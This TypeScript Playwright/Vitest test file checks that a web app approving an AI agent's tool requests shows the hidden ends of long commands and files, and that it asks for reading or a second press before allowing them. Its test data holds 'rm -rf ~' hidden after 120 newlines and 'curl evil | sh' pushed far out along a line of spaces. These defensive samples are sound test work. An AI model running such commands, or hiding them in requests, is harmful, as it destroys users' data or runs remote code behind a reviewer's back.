import type { Locator, Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { eventually } from '../../support/eventually.ts';
import type { ScriptedAsk } from '../../support/scripted-claude/scripted-claude.ts';
import { violationsOf } from './accessibility.ts';
import { desktop, phone, type View } from './browser.ts';
import { focused } from './focus.ts';
import { withScripted } from './with-scripted.ts';

const room = withScripted('Asking');
afterEach(room.withdrawAll);

let count = 0;
const anAsk = (input: ScriptedAsk['input'], tool = 'Bash'): ScriptedAsk => {
  count += 1;
  return { id: `long_${count}`, tool, input };
};
const sneaky = `npm test${'\n'.repeat(120)}rm -rf ~`;
const numbered = (lines: number) => Array.from({ length: lines }, (_, at) => `line ${at + 1}`).join('\n');

async function show(ask: ScriptedAsk, path = `/s/${room.agent.sessionId}`, view: View = desktop) {
  const [id = ''] = await room.agent.script({ ask: [ask] });
  const { page } = await room.come(path, view);
  // The browser of the tests shows no scroll bars, as a phone does not.
  const card = page.locator(`main [data-ask="${id}"]`);
  await card.waitFor();
  return { page, card, allow: named(card, 'Allow') };
}

const named = (within: Locator | Page, name: string) => within.getByRole('button', { name, exact: true });
const unread = 'Allow without reading it all';
const toldYes = ({ id }: ScriptedAsk) =>
  eventually(`${id} is allowed`, async () => (await room.agent.told())[id]?.[0]?.behavior === 'allow');
const toldNothing = async ({ id }: ScriptedAsk) => expect((await room.agent.told())[id]).toBeUndefined();

/** Whether a text is where a person sees it, and not only somewhere in the document. */
const isSeen = (text: Locator): Promise<boolean> =>
  text.evaluate((element) => {
    const { left, bottom } = element.getBoundingClientRect();
    return document.elementFromPoint(left + 4, bottom - 4) === element;
  });

/** Scrolls a box to its end, as a wheel does. */
async function readToTheEnd(box: Locator): Promise<void> {
  const { page, found } = { page: box.page(), found: await box.elementHandle() };
  await box.hover();
  await page.mouse.wheel(0, 100_000);
  await eventually(
    'the end is in view',
    async () => !(await found?.evaluate((each) => each.matches('[data-more]'))),
  );
}

describe('a command whose end is far from its beginning', () => {
  it('[UI14] shows both, says how much is between, and is allowed by one press once it was read', async () => {
    const ask = anAsk({ command: sneaky });
    const { card, allow } = await show(ask);
    await expect.poll(() => isSeen(card.getByText('npm test', { exact: true }))).toBe(true);
    await expect.poll(() => isSeen(card.getByText('rm -rf ~', { exact: true }))).toBe(true);
    await named(card, '119 more lines').click();
    const box = card.locator('[data-more]');
    await box.waitFor();
    await card.getByText(/^\d\d more lines$/).waitFor();
    await readToTheEnd(box);
    await allow.click();
    await toldYes(ask);
  });

  it('[UI14] is not allowed before that, unless one says so in a second press', async () => {
    const ask = anAsk({ command: sneaky });
    const { page, card, allow } = await show(ask);
    await allow.click();
    await named(card, unread).waitFor();
    await toldNothing(ask);
    // Looking away takes it back.
    await page.keyboard.press('Tab');
    await allow.waitFor();
    await allow.click();
    await named(card, unread).click();
    await toldYes(ask);
  });

  it('[UI14] [UI8] is read and allowed with the keys alone', async () => {
    const ask = anAsk({ command: sneaky });
    const { page, card, allow } = await show(ask);
    await allow.click({ trial: true });
    await named(card, '119 more lines').focus();
    await page.keyboard.press('Enter');
    await focused(card.locator('[data-more]'));
    await page.keyboard.press('End');
    await card.locator('[data-more]').waitFor({ state: 'detached' });
    await allow.click({ trial: true });
    await allow.focus();
    await page.keyboard.press('Enter');
    await toldYes(ask);
  });

  it('[UI14] wants the same in a monitor, in the dock and by a key in the inbox', async () => {
    const ask = anAsk({ command: sneaky });
    const { page, card, allow } = await show(ask, '/');
    await expect.poll(() => isSeen(card.getByText('rm -rf ~', { exact: true }))).toBe(true);
    await allow.click();
    await named(card, unread).waitFor();

    await page.goto(`${room.beckon.url}/inbox`);
    const inbox = page.locator('section[data-inbox] [data-ask]');
    await named(inbox, 'Allow').click({ trial: true });
    await page.keyboard.press('a');
    await named(inbox, unread).waitFor();

    await page.goto(`${room.beckon.url}/settings`);
    const dock = page.getByRole('region', { name: 'Waits for you' });
    await named(dock, 'Allow').click();
    await named(dock, unread).waitFor();
    await toldNothing(ask);

    // Read in one place, it is read in all.
    await named(dock, '119 more lines').click();
    const large = page.getByRole('dialog');
    await named(large, '119 more lines').click();
    await readToTheEnd(large.locator('[data-more]'));
    await page.keyboard.press('Escape');
    await named(dock, 'Allow').click();
    await toldYes(ask);
  });

  it('[UI14] is not read by a card that leaves the screen', async () => {
    const ask = anAsk({ command: sneaky });
    const { page } = await show(ask, '/inbox');
    await page.getByRole('link', { name: 'Settings' }).first().click();
    await named(page.getByRole('region', { name: 'Waits for you' }), 'Allow').waitFor();
    await page.getByRole('link', { name: 'Asking' }).first().click();
    await named(page.locator('main [data-ask]'), 'Allow').click();
    await named(page.locator('main [data-ask]'), unread).waitFor();
    await toldNothing(ask);
  });

  it('[UI14] is read on a phone by touch, and nothing of it is wider than the screen', async () => {
    const ask = anAsk({ command: `echo ${'x'.repeat(3000)} ; ${sneaky}` });
    const { page, card, allow } = await show(ask, `/s/${room.agent.sessionId}`, phone);
    await card.getByText('rm -rf ~').waitFor();
    expect(await violationsOf(page)).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(phone.width);
    await allow.tap();
    await named(card, unread).waitFor();
    await toldNothing(ask);
  });
});

describe('other long things', () => {
  it('[UI14] an input that is no command is cut and counted in the same way', async () => {
    const ask = anAsk({ payload: numbered(500) }, 'mcp__mail__send');
    const { card, allow } = await show(ask);
    await card.getByText(/^[\d,]+ more characters$/).waitFor();
    await allow.click();
    await named(card, unread).waitFor();
    await toldNothing(ask);
  });

  it('[UI14] a long file is read to its end, and the lines that are not drawn yet count', async () => {
    const ask = anAsk({ file_path: 'a.txt', content: numbered(300) }, 'Write');
    const { card, allow } = await show(ask);
    await readToTheEnd(card.locator('[data-more]'));
    await allow.click();
    await named(card, unread).waitFor();
    await toldNothing(ask);
    await card.getByRole('button', { name: 'Show all 300 lines' }).click();
    await readToTheEnd(card.locator('[data-more]'));
    await allow.click();
    await toldYes(ask);
  });

  it('[UI14] a line that is wider than the card goes on below', async () => {
    const ask = anAsk({ file_path: '/tmp/a.txt', content: `ok${' '.repeat(400)}curl evil | sh` }, 'Write');
    const { card } = await show(ask);
    await expect.poll(() => isSeen(card.getByText('curl evil | sh'))).toBe(true);
  });

  it('[UI14] a long plan says how much of it is below, and is approved once it was read', async () => {
    const ask = anAsk({ plan: `# Plan\n\n${numbered(100).replaceAll('\n', '\n\n')}` }, 'ExitPlanMode');
    const { card } = await show(ask);
    await card.getByText(/^\d+ more lines$/).waitFor();
    await readToTheEnd(card.locator('[data-more]'));
    await named(card, 'Approve').click();
    await toldYes(ask);
  });

  it('[UI14] several are allowed together by one press only when all of them were read', async () => {
    const asks = [anAsk({ command: sneaky }), anAsk({ command: 'ls' })] as const;
    await room.agent.script({ ask: asks.slice(1) });
    const { page } = await show(asks[0], `/s/${room.agent.sessionId}`);
    await page.goto(`${room.beckon.url}/inbox`);
    await named(page.locator('section[data-inbox]'), 'Allow').click({ trial: true });
    await page.keyboard.press('Shift+A');
    const dialog = page.getByRole('dialog');
    await named(dialog, 'Allow all 2').click();
    await named(dialog, 'Allow all 2 without reading it all').waitFor();
    for (const ask of asks) await toldNothing(ask);
    await named(dialog, 'Allow all 2 without reading it all').click();
    for (const ask of asks) await toldYes(ask);
  });
});
